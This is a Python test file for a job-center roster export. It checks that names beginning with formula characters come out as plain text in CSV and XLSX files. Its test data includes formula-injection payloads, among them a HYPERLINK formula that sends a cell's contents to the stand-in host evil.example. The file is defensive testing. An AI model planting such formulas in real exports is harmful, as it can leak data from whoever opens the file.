"""Issue 12, item 1: what a person typed never runs as a formula when staff open a roster export in
Excel. A name that begins with =, +, -, @, a tab or a carriage return is text in both files."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from jobcenter.signups.service import take_seat
from tests.builders import a_citizen, a_cohort, a_program, a_staff_member
from tests.support import present

NAMES = ['=HYPERLINK("http://evil.example/?"&B2,"click")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\rcmd"]


@pytest.fixture
async def roster_of_formulas(clock, sign_in_staff) -> int:
    cohort = await a_cohort(await a_program("중장년 재취업 교실", audience="middle_aged"), capacity=len(NAMES))
    for number, name in enumerate(NAMES):
        citizen = await a_citizen(name, mobile=f"0107777{number:04d}", birth_year=1970)
        await take_seat(pool_id=cohort.seat_pool, citizen_id=citizen.id, now=clock.now, language="ko", zone="Asia/Seoul")
    await sign_in_staff(await a_staff_member())
    return cohort.seat_pool


async def test_the_csv_export_writes_a_name_that_looks_like_a_formula_as_text(client, roster_of_formulas: int) -> None:
    response = await client.get(f"/staff/rosters/{roster_of_formulas}/export/csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row[2] for row in rows[1:]] == [f"'{name}" for name in NAMES]
    assert [row[4] for row in rows[1:]] == ["1970"] * len(NAMES)


async def test_the_xlsx_export_holds_no_formula_cell_and_numbers_stay_numbers(client, roster_of_formulas: int) -> None:
    response = await client.get(f"/staff/rosters/{roster_of_formulas}/export/xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[2] for row in present(sheet).iter_rows(min_row=2)]
    assert [cell.value for cell in names] == [name.replace("\r", "\n") for name in NAMES]  # XML reads a CR as a line feed
    assert {cell.data_type for cell in names} == {"s"}
    assert {row[4].value for row in present(sheet).iter_rows(min_row=2)} == {1970}
